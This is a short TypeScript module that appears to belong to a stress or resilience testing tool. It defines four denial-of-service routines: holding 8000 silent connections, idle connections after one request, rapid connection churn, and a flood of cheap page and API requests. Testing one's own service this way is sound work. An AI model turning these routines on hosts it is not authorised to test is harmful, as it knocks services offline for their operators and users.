import { type Attack, countAnswers, headOf, hold, open, repeat } from './connections.ts';
import { callsOf } from './readings.ts';

/** More connections than the host is meant to hold. */
const crowd = 8000;

/** Opens connections and says nothing. */
export const silentConnections: Attack = (target, tally) => {
  hold(target, tally, crowd, () => undefined);
};

/** Opens connections, asks once over each, and lets it lie. */
export const idleConnections: Attack = (target, tally) => {
  hold(target, tally, crowd, (socket) => {
    socket.on('data', (chunk) => {
      countAnswers(tally, chunk);
    });
    socket.write(headOf(target, 'GET /about'));
  });
};

/** Opens and closes connections as fast as may be. */
export const briefConnections: Attack = (target, tally) => {
  const another = () => {
    const socket = open(target, tally, () => {
      socket.write(headOf(target, 'GET /about'));
      socket.on('data', (chunk) => {
        countAnswers(tally, chunk);
        socket.resetAndDestroy();
      });
    });
    socket.once('close', () => setImmediate(another));
  };
  for (let index = 0; index < 100; index += 1) another();
};

/** Asks for pages and makes cheap calls as fast as they are answered, over many connections. */
export const manyCalls: Attack = (target, tally) => {
  const pages = target.cookie
    ? ['/tools/character2']
    : ['/api/openapi.json', '/nothing', '/healthz'];
  const lines = [...pages.map((path) => `GET ${path}`), ...callsOf(target.who, 'cheap')];
  repeat(
    target,
    tally,
    1000,
    lines.map((line) => headOf(target, line)),
  );
};
